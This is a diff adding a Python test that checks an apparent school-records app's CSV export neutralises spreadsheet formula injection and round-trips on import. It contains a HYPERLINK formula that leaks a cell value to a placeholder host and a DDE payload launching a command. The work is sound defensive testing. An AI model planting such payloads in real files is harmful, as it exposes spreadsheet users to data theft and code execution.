@@ -123,3 +123,43 @@ def test_export_respects_search(cast, api):
     exported = api(cast.accountant.user).get("/api/v1/students/export/?search=oscar")
     rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
     assert [r["full_name"] for r in rows] == ["Oscar Other"]
+
+
+FORMULA = '=HYPERLINK("https://x.example/?"&A2,"Report")'
+
+
+def test_export_neutralises_formula_cells_and_imports_them_back_unchanged(cast, api):
+    user = cast.student.user
+    user.full_name, user.phone = FORMULA, "+91 98765 43210"
+    user.save()
+    cast.student.address = "@SUM(1+1)*cmd|' /C calc'!A0"
+    cast.student.emergency_contact_name = "'quoted already"
+    cast.student.save()
+    cast.parent.full_name = "-Pat+Parent"
+    cast.parent.save()
+
+    client = api(cast.admin)
+    exported = client.get("/api/v1/students/export/")
+    assert exported.status_code == 200
+    rows = {
+        r["admission_number"]: r for r in csv.DictReader(io.StringIO(exported.content.decode()))
+    }
+    sam = rows[cast.student.admission_number]
+    assert sam["full_name"] == "'" + FORMULA
+    assert sam["phone"] == "'+91 98765 43210"
+    assert sam["address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert sam["emergency_contact_name"] == "'quoted already"  # not a formula: as it is
+    assert sam["guardian1_name"] == "'-Pat+Parent"
+    assert sam["date_of_birth"] == "" and sam["email"] == "sam@alice.test"
+    # No cell of the whole file starts a formula.
+    for record in rows.values():
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in record.values())
+
+    again = upload(client, exported.content.decode())
+    assert again.status_code == 200, again.json()
+    assert again.json()["created"] == 0 and again.json()["updated"] == 3
+    user.refresh_from_db()
+    cast.student.refresh_from_db()
+    assert user.full_name == FORMULA and user.phone == "+91 98765 43210"
+    assert cast.student.address == "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cast.student.emergency_contact_name == "'quoted already"
